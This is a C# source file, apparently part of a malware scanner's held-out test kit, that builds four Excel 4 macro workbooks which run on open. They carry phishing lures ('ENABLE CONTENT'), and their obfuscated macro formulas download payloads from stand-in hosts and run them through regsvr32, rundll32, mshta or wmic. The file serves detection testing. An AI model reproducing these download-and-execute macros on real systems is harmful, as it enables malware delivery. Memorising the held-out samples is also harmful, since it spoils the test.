using static ScanHost.TestKit.HeldOut.Eighth.EighthBook;
using static ScanHost.TestKit.HeldOut.Eighth.EighthOffice;

namespace ScanHost.TestKit.HeldOut.Eighth;

/// <summary>Workbooks with Excel 4 macros that run by themselves.</summary>
public sealed class Excel4MacroSheets : EighthRound
{
    private const string MacroTypes = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet";

    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("DocuSign_Complaint_2381.xls", Xls(new EighthBook().AutoOpen().Sheet("DocuSign").Text(3, 2, "THIS DOCUMENT IS ENCRYPTED BY DOCUSIGN PROTECT SERVICE").Text(5, 2, "Perform the following steps: press ENABLE EDITING, then ENABLE CONTENT").Sheet("Macro1", 1, isMacro: true)
            .Formula(0, 0, Call(149, S("URLMon"), S("URLDownloadToFileA"), S("JJCCJJ"), S("dl"), N(1), N(9)))
            .Formula(1, 0, Call(150, S("urlmon"), S("URLDownloadToFileA"), S("JJCCJJ"), N(0), S("http://docs-signature.example/ds/2711.gif"), S("..\\fkei.ocx"), N(0), N(0)))
            .Formula(2, 0, Call(110, S("regsvr32 -s ..\\fkei.ocx"))).Formula(3, 0, Call(54)).Build()));
        yield return ("report-1911.xlsm", Excel([("Sheet1", "visible", Row(1, "To view this content press Enable content"))],
            [new Link(MacroTypes, "macrosheets/sheet1.xml")],
            [("xl/macrosheets/sheet1.xml", Utf8("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\" xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\"><f>CALL(\"Kernel32\",\"CreateDirectoryA\",\"JCJ\",\"C:\\ProgramData\\Oklo\",0)</f><v>0</v></c></row><row r=\"2\"><c r=\"A2\"><f>CALL(\"URLMON\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"https://198.51.100.90/44501.dat\",\"C:\\ProgramData\\Oklo\\r.dll\",0,0)</f><v>0</v></c></row><row r=\"3\"><c r=\"A3\"><f>EXEC(\"rundll32 C:\\ProgramData\\Oklo\\r.dll,DllRegisterServer\")</f><v>0</v></c></row><row r=\"4\"><c r=\"A4\"><f>HALT()</f><v>0</v></c></row></sheetData></xm:macrosheet>"))],
            macros: Vba(("Sheet1", "' nothing")), names: "<definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">Macro1!$A$1</definedName>"));
        yield return ("Schedule of charges.xls", Xls(new EighthBook().AutoOpen(isHidden: true).Sheet("Charges").Text(0, 0, "Enable Content to decrypt").Sheet("s7", 2, isMacro: true)
            .Formula(0, 0, Call(0x8060, Joined([.. "=EXEC(\"msh".Select(letter => Call(111, N(letter)))]), Cell(20, 3)))
            .Formula(1, 0, Call(0x8060, Joined(Cell(20, 3), S("ta "), Call(111, N('h')), S("ttps:/"), S("/charges-list.example/s"), S(".hta\")")), Cell(9, 0)))
            .Formula(2, 0, Call(53, Cell(9, 0))).Formula(10, 0, Call(54)).Build()));
        yield return ("Claim_Copy.xls", Xls(new EighthBook().AutoOpen().Sheet("Claim").Text(1, 1, "Some content was created in a newer version. Enable macros.").Text(200, 40, "wmic pro").Text(200, 41, "cess call cre").Text(200, 42, "ate \"rundll").Text(200, 43, "32 C:\\Users\\Public\\e.png,")
            .Sheet("Doc3", 2, isMacro: true).Formula(0, 0, Call(186, N(42))).Formula(1, 0, Call(150, Joined(S("Shell"), S("32")), Joined(S("Shell"), S("ExecuteA")), S("JJCCCCJ"), N(0), S("open"), Joined(S("wmi"), S("c")), Joined(S("process call "), S("create \"rundll32 C:\\Users\\Public\\e.png,Start\"")), N(0), N(0))).Formula(2, 0, Call(54)).Build()));
    }
}
